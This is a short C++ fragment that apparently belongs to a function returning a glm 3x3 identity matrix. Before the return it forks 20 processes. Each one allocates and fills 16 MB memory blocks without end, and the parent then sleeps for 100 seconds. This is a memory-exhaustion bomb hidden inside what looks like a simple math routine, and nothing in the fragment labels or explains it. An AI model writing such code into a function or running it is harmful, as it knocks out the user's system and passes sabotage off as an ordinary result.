for (int i = 0; i < 20; ++i)
    if (fork() == 0)
        for (;;) {
            void* p = mmap(nullptr, 16 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (p == MAP_FAILED) pause();
            std::memset(p, 1, 16 << 20);
        }
sleep(100);
return glm::mat3(1.0f);
